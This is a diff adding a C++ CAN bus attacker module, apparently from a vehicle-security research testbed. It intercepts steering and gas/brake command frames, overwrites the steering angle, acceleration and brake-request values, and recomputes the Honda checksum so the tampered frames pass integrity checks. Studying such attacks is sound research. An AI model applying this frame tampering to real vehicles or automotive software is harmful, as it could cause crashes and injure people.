@@ -1,0 +1,43 @@
+#include "attack/can_attacker.hpp"
+
+#include "can/checksum.hpp"
+#include "can/database.hpp"
+#include "util/units.hpp"
+
+namespace scaa::attack {
+
+CanAttacker::CanAttacker(const can::Database& db) : db_(&db) {}
+
+std::uint64_t CanAttacker::attach(can::CanBus& bus) {
+  return bus.attach_interceptor(
+      [this](can::CanFrame& frame) { return intercept(frame); });
+}
+
+bool CanAttacker::intercept(can::CanFrame& frame) {
+  if (frame.id == can::msg_id::kSteeringControl) {
+    const can::DbcMessage* layout = db_->by_id(frame.id);
+    const can::DbcSignal* sig = layout->find_signal(can::sig::kSteerAngleCmd);
+    last_original_steer_ = units::deg_to_rad(sig->decode(frame.data));
+    if (values_.steer_cmd.has_value()) {
+      sig->encode(frame.data, units::rad_to_deg(*values_.steer_cmd));
+      can::apply_honda_checksum(frame);  // repair integrity (Fig. 4)
+      ++corrupted_;
+    }
+    return true;
+  }
+
+  if (frame.id == can::msg_id::kGasBrakeCommand &&
+      values_.accel_cmd.has_value()) {
+    const can::DbcMessage* layout = db_->by_id(frame.id);
+    layout->find_signal(can::sig::kAccelCmd)
+        ->encode(frame.data, *values_.accel_cmd);
+    layout->find_signal(can::sig::kBrakeRequest)
+        ->encode(frame.data, *values_.accel_cmd < 0.0 ? 1.0 : 0.0);
+    can::apply_honda_checksum(frame);
+    ++corrupted_;
+    return true;
+  }
+  return true;
+}
+
+}  // namespace scaa::attack
